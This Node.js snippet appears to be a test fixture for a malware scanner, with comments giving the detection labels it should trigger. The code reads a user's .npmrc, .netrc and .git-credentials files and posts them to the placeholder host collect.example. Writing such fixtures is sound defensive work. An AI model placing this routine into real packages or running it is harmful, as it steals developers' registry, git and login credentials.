const { readFileSync } = require('node:fs');
const { request } = require('node:https');

const read = (name) => {
  try {
    return readFileSync(`${process.env.HOME}/${name}`, 'utf8');
  } catch {
    return '';
  }
};
const found = ['.npmrc', '.netrc', '.git-credentials'].map(read);
const out = request({ hostname: 'collect.example', path: '/r', method: 'POST' }); // expect: malicious-command/lifecycle-script
out.end(JSON.stringify(found)); // expect: data-exfiltration/credential-file
